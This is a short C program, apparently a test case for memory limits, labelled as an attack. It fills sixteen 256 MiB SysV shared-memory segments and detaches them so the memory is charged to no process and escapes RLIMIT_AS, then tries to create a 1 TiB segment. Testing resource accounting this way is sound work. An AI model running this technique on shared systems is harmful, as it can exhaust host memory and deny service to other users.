/* Attack: SysV segments as large as allowed, attached and touched one after
 * the other, so the memory stays charged to nobody after shmdt (RLIMIT_AS
 * only bounds what is attached at a time). Stops at 4 GiB. */
#include <stdio.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/shm.h>

int
main(void)
{
	size_t seg = 256UL << 20, total = 0;
	for (int i = 0; i < 16; i++) {
		int id = shmget(0x1badc0de + i, seg, IPC_CREAT | 0600);
		if (id < 0)
			break;
		char *p = shmat(id, NULL, 0);
		if (p == (void *)-1)
			break;
		memset(p, 1, seg);
		shmdt(p);
		total += seg;
	}
	/* and one as large as the kernel says is allowed */
	int big = shmget(0x1badc0de + 100, (size_t)1 << 40, IPC_CREAT | 0600);
	printf("SYSV %zu MiB, 1 TiB segment %s\n", total >> 20, big >= 0 ? "created" : "refused");
	return 0;
}
